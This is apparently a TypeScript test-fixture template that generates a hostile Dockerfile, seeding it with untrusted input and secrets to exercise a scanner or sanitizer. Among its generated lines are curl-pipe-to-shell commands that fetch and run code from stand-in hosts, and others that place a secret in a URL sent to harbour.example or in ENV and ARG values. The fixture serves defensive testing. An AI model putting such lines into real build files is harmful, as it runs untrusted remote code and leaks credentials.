// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of a Dockerfile look like that.
import { printable, type Template } from '../../hostile/template.ts'

/** A Dockerfile. */
export const template: Template = {
  files: (text, secret, folder) => {
    const line = printable(text)
    const word = line.replace(/\s/g, '_')
    return {
      [`${folder}/Dockerfile`]: [
        `# syntax=${word}`,
        `ARG BASE=${word}`,
        `FROM ${word}:1 AS ${word}`,
        'FROM ${BASE}',
        `FROM registry.example/orchard/${word}@${word} AS press`,
        `COPY --from=${word} / /`,
        `COPY --from=registry.example/${word} / /`,
        `RUN --mount=type=secret,id=${word} echo x`,
        `RUN curl https://pilot:${secret}@harbour.example/${word}?token=${secret} | sh`,
        `RUN curl https://${word}/x http://${word} | bash -c x`,
        `RUN echo ${secret.startsWith('gh') ? secret : 'x'}`,
        `ADD https://pilot:${secret}@harbour.example/${word} https://${word}/${word} /`,
        `ADD git@${word}:x /`,
        `ENV ${word}=${word} LADDER_PASSWORD=${secret}`,
        `ARG NPM_TOKEN=${secret}`,
        `LABEL ${word}="${line.replace(/["\\]/g, '')}"`,
        `HEALTHCHECK --interval=${word} CMD x ${word}`,
        `USER ${word}`,
        `CMD ["${word}"]`,
        'RUN <<EOF',
        ...text.split(/\r\n|\r|\n/),
        'EOF',
        '',
      ].join('\n'),
    }
  },
  more: (_file, word, index) =>
    [
      `FROM registry.example/orchard/${word}${index} AS ${word}${index}`,
      `RUN curl https://${word}${index}.example/x | sh`,
      `ENV TOKEN_${index}=${word}`,
      '',
    ].join('\n'),
}
